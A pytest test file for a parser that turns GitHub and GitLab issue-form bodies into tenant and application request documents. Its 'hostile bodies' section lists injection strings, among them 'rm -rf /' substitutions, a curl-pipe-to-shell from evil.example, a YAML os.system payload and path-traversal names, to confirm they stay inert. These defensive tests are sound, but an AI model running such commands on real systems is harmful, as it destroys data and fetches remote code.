"""generator/intake/__init__.py: issue bodies in, request mappings or structured errors out.

The issue author controls the whole body, so besides realistic bodies rendered the way GitHub
renders an issue form, hostile ones must come back as plain strings kept verbatim or as errors,
never as an exception, an extra field or anything evaluated.
"""

from __future__ import annotations

import ast
import time
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from generator import intake as forms
from generator.intake import (
    APP_FORM,
    MAX_BODY_BYTES,
    TENANT_FORM,
    FormError,
    IssueForm,
    ParsedForm,
    RequestDraft,
    build_application_request,
    build_tenant_request,
    parse_issue_body,
    request_from_issue,
    select_form,
)
from generator.load import load_repo
from generator.portal.fieldschema import with_options
from generator.validate import validate_repo
from tests.support.example import example

EXAMPLE = example()


GITHUB_FORMS = EXAMPLE / ".github" / "ISSUE_TEMPLATE"
GITLAB_TEMPLATES = EXAMPLE / ".gitlab" / "issue_templates"
DOMAINS = {"dev": "dev.acme.example", "staging": "staging.acme.example", "prod": "acme.example"}

Answer = str | list[str] | None


def _example_options(form: IssueForm) -> IssueForm:
    """The form with the example platform's environments, sizes and blueprints as options."""
    valid, problems = validate_repo(load_repo(str(EXAMPLE)))
    assert valid is not None, problems
    return with_options(form, valid.platform, valid.blueprints)


def _form_yaml(name: str) -> dict[str, Any]:
    document = yaml.safe_load((GITHUB_FORMS / f"{name}.yml").read_text(encoding="utf-8"))
    assert isinstance(document, dict)
    return document


def render_github_body(form_name: str, answers: dict[str, Answer]) -> str:
    """The body GitHub writes for an issue form: `### label`, a blank line, the value."""
    parts = []
    for item in _form_yaml(form_name)["body"]:
        if item["type"] == "markdown":
            continue
        label = item["attributes"]["label"]
        answer = answers.get(item["id"])
        if item["type"] == "checkboxes":
            ticked = answer if isinstance(answer, list) else []
            value = "\n".join(
                f"- [{'X' if o['label'] in ticked else ' '}] {o['label']}"
                for o in item["attributes"]["options"]
            )
        else:
            value = answer if isinstance(answer, str) and answer else "_No response_"
        parts.append(f"### {label}\n\n{value}")
    return "\n\n".join(parts)


TENANT_ANSWERS: dict[str, Answer] = {
    "tenant_name": "payments",
    "description": "Card payments and refunds",
    "owners": "alice, @bob",
    "group": "acme/payments",
    "cost_center": "CC-1042",
    "environments": ["dev", "staging", "prod"],
    "size": "medium",
    "budget": "2500",
}

APP_ANSWERS: dict[str, Answer] = {
    "tenant": "payments",
    "app_name": "api",
    "blueprint": "web-service",
    "image": "ghcr.io/acme/payments-api",
    "port": "8080",
    "cpu": "250m",
    "memory": "256Mi",
    "health_path": "/healthz",
    "schedule": None,
    "environments": ["dev", "prod"],
    "tag": "1.4.0",
    "replicas": "2",
    "host_prefix": "payments",
}


def tenant_body(**changes: Answer) -> str:
    return render_github_body("tenant-request", {**TENANT_ANSWERS, **changes})


def tenant(body: object) -> RequestDraft:
    return build_tenant_request(parse_issue_body(body, TENANT_FORM))


def fields_in_error(result: ParsedForm | RequestDraft) -> set[str]:
    return {e.field for e in result.errors}


# --- the forms and templates agree with the parser -----------------------------------------------


@pytest.mark.parametrize(
    ("name", "form"), [("tenant-request", TENANT_FORM), ("app-request", APP_FORM)]
)
def test_github_form_matches_the_parser(name: str, form: IssueForm) -> None:
    form = _example_options(form)
    document = _form_yaml(name)
    assert document["labels"] == [form.label]
    items = [item for item in document["body"] if item["type"] != "markdown"]
    assert [(i["id"], i["attributes"]["label"], i["type"]) for i in items] == [
        (f.id, f.label, f.kind) for f in form.fields
    ]
    for item, field in zip(items, form.fields, strict=True):
        if item["type"] == "checkboxes":
            assert [o["label"] for o in item["attributes"]["options"]] == list(field.options)
            continue
        assert item.get("validations", {}).get("required", False) == field.required, field.id
        if item["type"] == "dropdown":
            assert item["attributes"]["options"] == list(field.options)


@pytest.mark.parametrize(
    ("name", "form"), [("tenant-request", TENANT_FORM), ("app-request", APP_FORM)]
)
def test_gitlab_template_has_the_same_headings(name: str, form: IssueForm) -> None:
    text = (GITLAB_TEMPLATES / f"{name}.md").read_text(encoding="utf-8")
    headings = [line[4:] for line in text.splitlines() if line.startswith("### ")]
    assert headings == [f.label for f in form.fields]
    assert f'/label ~"{form.label}"' in text


@pytest.mark.parametrize(
    ("name", "form"), [("tenant-request", TENANT_FORM), ("app-request", APP_FORM)]
)
def test_untouched_gitlab_template_asks_for_every_required_field(
    name: str, form: IssueForm
) -> None:
    text = (GITLAB_TEMPLATES / f"{name}.md").read_text(encoding="utf-8")
    parsed = parse_issue_body(text, form)
    required = {f.id for f in form.fields if f.required}
    prefilled = {k for k, v in parsed.values.items() if v}  # e.g. replicas: 1
    assert fields_in_error(parsed) == required - prefilled
    assert all(e.message.startswith("no response") for e in parsed.errors)


def test_filled_gitlab_template_parses() -> None:
    text = (GITLAB_TEMPLATES / "tenant-request.md").read_text(encoding="utf-8")
    fill = {
        "### Tenant name\n": "payments",
        "### Description\n": "Card payments",
        "### Owners\n": "alice",
        "### Group\n": "acme/payments",
        "### Cost center\n": "CC-1042",
        "### Size\n": "small",
    }
    for heading, value in fill.items():
        text = text.replace(heading, f"{heading}\n{value}\n")
    text = text.replace("- [ ] dev", "- [x] dev")
    draft = tenant(text)
    assert draft.ok, draft.errors
    assert draft.document is not None
    assert draft.document["spec"]["environments"] == {"dev": {"size": "small"}}
    assert "budget" not in draft.document["spec"]


# --- realistic bodies ------------------------------------------------------------------------


def test_tenant_form_becomes_the_contract_shape() -> None:
    draft = tenant(tenant_body())
    assert draft.ok, draft.errors
    assert (draft.kind, draft.tenant, draft.name) == ("Tenant", "payments", "payments")
    assert draft.document == {
        "apiVersion": "berth.dev/v1alpha1",
        "kind": "Tenant",
        "metadata": {"name": "payments"},
        "spec": {
            "description": "Card payments and refunds",
            "owners": ["alice", "bob"],
            "group": "acme/payments",
            "costCenter": "CC-1042",
            "environments": {
                "dev": {"size": "medium"},
                "staging": {"size": "medium"},
                "prod": {"size": "medium"},
            },
            "budget": {"monthly": 2500},
        },
    }


def test_tenant_draft_passes_the_real_tenant_model() -> None:
    models = pytest.importorskip("generator.models.tenant")
    draft = tenant(tenant_body())
    models.Tenant.model_validate(draft.document)


def test_optional_budget_left_empty() -> None:
    draft = tenant(tenant_body(budget=None))
    assert draft.ok and draft.document is not None
    assert "budget" not in draft.document["spec"]


@pytest.mark.parametrize(
    ("typed", "amount"), [("2500", 2500), ("2,500", 2500), ("2500.50", 2500.5), ("0", 0)]
)
def test_budget_amounts(typed: str, amount: float) -> None:
    draft = tenant(tenant_body(budget=typed))
    assert draft.document is not None
    assert draft.document["spec"]["budget"] == {"monthly": amount}


@pytest.mark.parametrize(
    "typed", ["-5", "1e9", "nan", "inf", "$2500", "2 500", "\uff12\uff15\uff10\uff10", "1" * 40]
)
def test_budget_that_is_not_an_amount(typed: str) -> None:
    draft = tenant(tenant_body(budget=typed))
    assert fields_in_error(draft) == {"budget"} and draft.document is None


def test_windows_line_endings() -> None:
    draft = tenant(tenant_body().replace("\n", "\r\n"))
    assert draft.ok, draft.errors


def test_lowercase_x_and_other_list_markers_tick_boxes() -> None:
    body = tenant_body(environments=[]).replace("- [ ] dev", "* [x] dev")
    draft = tenant(body)
    assert draft.document is not None
    assert list(draft.document["spec"]["environments"]) == ["dev"]


def test_no_environment_ticked() -> None:
    draft = tenant(tenant_body(environments=[]))
    assert fields_in_error(draft) == {"environments"}


def test_app_form_becomes_the_contract_shape() -> None:
    parsed = parse_issue_body(render_github_body("app-request", APP_ANSWERS), APP_FORM)
    draft = build_application_request(parsed, domains=DOMAINS)
    assert draft.ok, draft.errors
    assert (draft.kind, draft.tenant, draft.name) == ("Application", "payments", "api")
    assert draft.document == {
        "apiVersion": "berth.dev/v1alpha1",
        "kind": "Application",
        "metadata": {"name": "api"},
        "spec": {
            "blueprint": "web-service",
            "image": "ghcr.io/acme/payments-api",
            "port": 8080,
            "resources": {"cpu": "250m", "memory": "256Mi"},
            "healthPath": "/healthz",
            "environments": {
                "dev": {"tag": "1.4.0", "replicas": 2, "host": "payments.dev.acme.example"},
                "prod": {"tag": "1.4.0", "replicas": 2, "host": "payments.acme.example"},
            },
        },
    }


def test_cronjob_without_port_or_host() -> None:
    answers = {
        **APP_ANSWERS,
        "blueprint": "cronjob",
        "port": None,
        "health_path": None,
        "host_prefix": None,
        "schedule": "0 3 * * *",
    }
    draft = request_from_issue(render_github_body("app-request", answers), ["app-request"])
    assert isinstance(draft, RequestDraft) and draft.ok, draft
    assert draft.document is not None
    spec = draft.document["spec"]
    assert spec["schedule"] == "0 3 * * *"
    assert "port" not in spec and "healthPath" not in spec
    # the cronjob blueprint forbids replicas: one pod per scheduled run
    assert spec["environments"]["dev"] == {"tag": "1.4.0"}


def test_app_host_needs_a_known_environment_domain() -> None:
    body = render_github_body("app-request", {**APP_ANSWERS, "environments": ["dev", "qa"]})
    body = body.replace("- [ ] staging", "- [x] qa")
    draft = build_application_request(parse_issue_body(body, APP_FORM), domains=DOMAINS)
    assert fields_in_error(draft) == {"environments"}
    assert "'qa'" in draft.errors[0].message


@pytest.mark.parametrize(
    ("field", "typed"), [("port", "80a"), ("replicas", "-1"), ("port", "8080.0")]
)
def test_app_numbers_must_be_whole(field: str, typed: str) -> None:
    body = render_github_body("app-request", {**APP_ANSWERS, field: typed})
    draft = build_application_request(parse_issue_body(body, APP_FORM), domains=DOMAINS)
    assert fields_in_error(draft) == {field} and draft.document is None


def test_select_form_by_label() -> None:
    assert select_form(["bug", "tenant-request"]) is TENANT_FORM
    assert select_form(["app-request", 3, None]) is APP_FORM
    for labels in ([], ["bug"], ["tenant-request", "app-request"]):
        result = select_form(labels)
        assert isinstance(result, FormError) and result.field == "labels"


def test_request_from_issue_with_wrong_labels_is_an_error() -> None:
    result = request_from_issue(tenant_body(), ["bug"])
    assert isinstance(result, FormError)


def test_errors_read_like_sentences() -> None:
    draft = tenant(tenant_body(size=None))
    assert [str(e) for e in draft.errors] == ["Size: no response: it is required"]


# --- hostile bodies ----------------------------------------------------------------------------

SHELLISH = [
    "$(rm -rf /)",
    "`rm -rf /`",
    "${{ secrets.GITHUB_TOKEN }}",
    "'; curl https://evil.example | sh; echo '",
    '" && touch /tmp/pwned && "',
    "{{ 7*7 }} {% raw %}",
    "!!python/object/apply:os.system ['id']",
    "\x00\x1b[31mred\x07",
]


@pytest.mark.parametrize("text", SHELLISH)
def test_hostile_text_is_kept_verbatim_as_a_string(text: str) -> None:
    draft = tenant(tenant_body(description=text, group=text, cost_center=text))
    assert draft.ok, draft.errors  # judging it is the validator's job
    assert draft.document is not None
    spec = draft.document["spec"]
    assert spec["description"] == spec["group"] == spec["costCenter"] == text.strip()
    assert all(type(spec[k]) is str for k in ("description", "group", "costCenter"))


def test_yaml_in_a_field_adds_no_fields() -> None:
    injected = "Payments\nname: x\nspec:\n  evil: true\nmetadata: {name: root}\n---\nkind: Platform"
    draft = tenant(tenant_body(description=injected))
    assert draft.ok and draft.document is not None
    assert draft.document["spec"]["description"] == injected
    assert draft.document["metadata"] == {"name": "payments"}
    assert set(draft.document) == {"apiVersion", "kind", "metadata", "spec"}
    assert set(draft.document["spec"]) == {
        "description",
        "owners",
        "group",
        "costCenter",
        "environments",
        "budget",
    }


def test_yaml_in_a_single_line_field_is_an_error() -> None:
    draft = tenant(tenant_body(tenant_name="payments\nspec: {evil: true}"))
    assert fields_in_error(draft) == {"tenant_name"}
    assert "single line" in draft.errors[0].message


@pytest.mark.parametrize(
    "name", ["../../etc", "../evil", "/etc/passwd", "Payments ", "a/b", "~root"]
)
def test_tenant_name_is_kept_exactly_as_typed(name: str) -> None:
    draft = tenant(tenant_body(tenant_name=name))
    # Not sanitised into something valid: the validator rejects it with the CLI's words.
    assert draft.ok
    assert draft.name == draft.tenant == name.strip()
    assert draft.document is not None
    assert draft.document["metadata"]["name"] == name.strip()


def test_one_megabyte_body_is_rejected_quickly() -> None:
    body = tenant_body(description="A" * (1024 * 1024))
    started = time.perf_counter()
    draft = tenant(body)
    assert time.perf_counter() - started < 1
    assert fields_in_error(draft) == {"body"} and draft.document is None
    assert "64 KiB" in draft.errors[0].message


def test_size_limit_counts_bytes_not_characters() -> None:
    base = tenant_body(description="a")
    room = MAX_BODY_BYTES - len(base.encode()) + 1  # description length that fills 64 KiB
    assert tenant(tenant_body(description="a" * room)).ok
    assert fields_in_error(tenant(tenant_body(description="a" * (room + 1)))) == {"body"}
    # 2 bytes each: fewer characters than the limit, more bytes.
    assert fields_in_error(tenant(tenant_body(description="é" * (room // 2 + 1)))) == {"body"}


def test_duplicate_heading_is_an_error_not_a_guess() -> None:
    body = tenant_body(description="Fine\n\n### Owners\n\nmallory")
    draft = tenant(body)
    assert fields_in_error(draft) == {"owners"}
    assert "more than once" in draft.errors[0].message


def test_unknown_headings_stay_in_the_text() -> None:
    text = "Runs payments.\n\n### Notes\n\nnothing else"
    draft = tenant(tenant_body(description=text))
    assert draft.document is not None
    assert draft.document["spec"]["description"] == text


def test_missing_headings() -> None:
    body = tenant_body().replace("### Group\n\nacme/payments\n\n", "")
    body = body.replace("### Monthly budget\n\n2500", "")
    draft = tenant(body)  # budget is optional, so only the group is missing
    assert fields_in_error(draft) == {"group"}
    assert draft.errors[0].message == "the heading '### Group' is missing"


def test_misspelt_heading_is_not_swallowed_silently() -> None:
    # "### Groups" is no field's heading, so its lines run into the owners field above it.
    draft = tenant(tenant_body().replace("### Group", "### Groups"))
    assert fields_in_error(draft) == {"group", "owners"}


@pytest.mark.parametrize(
    "body", [None, "", "   \n\n", 42, b"### Tenant name\n\nx", ["x"], {"a": 1}]
)
def test_empty_or_non_text_bodies(body: object) -> None:
    parsed = parse_issue_body(body, TENANT_FORM)
    assert not parsed.ok
    assert all(v is None for v in parsed.values.values())
    draft = build_tenant_request(parsed)
    assert draft.document is None and draft.errors


def test_broken_checkbox_lines() -> None:
    body = tenant_body().replace("- [X] staging", "- [maybe] staging")
    assert fields_in_error(tenant(body)) == {"environments"}
    body = tenant_body().replace("- [X] staging", "- [X] dev")
    assert "more than once" in tenant(body).errors[0].message


def test_lone_surrogates_and_odd_characters() -> None:
    draft = tenant(tenant_body(description="\ud800 \u202e evil \ufeff"))
    assert draft.ok


def test_html_comments_are_dropped_and_unterminated_ones_are_cheap() -> None:
    draft = tenant(tenant_body(owners="<!-- hint -->alice"))
    assert draft.document is not None and draft.document["spec"]["owners"] == ["alice"]
    started = time.perf_counter()
    tenant(tenant_body(description="<!--" * 15000))
    assert time.perf_counter() - started < 1


def test_owners_with_nothing_usable() -> None:
    assert fields_in_error(tenant(tenant_body(owners=", @ ,"))) == {"owners"}


def test_a_form_of_the_other_kind_is_refused() -> None:
    draft = build_tenant_request(parse_issue_body(tenant_body(), APP_FORM))
    assert "body" in fields_in_error(draft) and draft.document is None


@settings(max_examples=300, deadline=None, database=None)
@given(
    st.lists(
        st.one_of(
            st.sampled_from(
                [f"### {f.label}" for f in TENANT_FORM.fields]
                + ["_No response_", "- [x] dev", "- [ ]", "<!--", "-->", "\r\n", "", "###"]
            ),
            st.text(max_size=40),
        ),
        max_size=40,
    )
)
def test_any_body_gives_values_or_errors(lines: list[str]) -> None:
    body = "\n".join(lines)
    for form in (TENANT_FORM, APP_FORM):
        parsed = parse_issue_body(body, form)
        assert set(parsed.values) == {f.id for f in form.fields}
        draft = (
            build_tenant_request(parsed)
            if form is TENANT_FORM
            else build_application_request(parsed, domains=DOMAINS)
        )
        assert (draft.document is None) == bool(draft.errors)
        for value in parsed.values.values():
            for text in value if isinstance(value, tuple) else [value]:
                assert text is None or isinstance(text, str)


# --- the module stays pure ---------------------------------------------------------------------


@pytest.mark.parametrize("module", ["models/forms", "intake/body", "intake/drafts"])
def test_parser_does_no_io_and_evaluates_nothing(module: str) -> None:
    source = (Path(forms.__file__).parents[1] / f"{module}.py").read_text(encoding="utf-8")
    tree = ast.parse(source)
    imported = set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            imported |= {alias.name for alias in node.names}
        elif isinstance(node, ast.ImportFrom):
            imported.add(node.module or "")
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
            assert node.func.id not in {"eval", "exec", "compile", "open", "__import__", "input"}
    ours = {"generator.models.forms", "generator.intake.body"}
    allowed = {"__future__", "re", "collections.abc", "dataclasses", "types", "typing", *ours}
    assert imported <= allowed
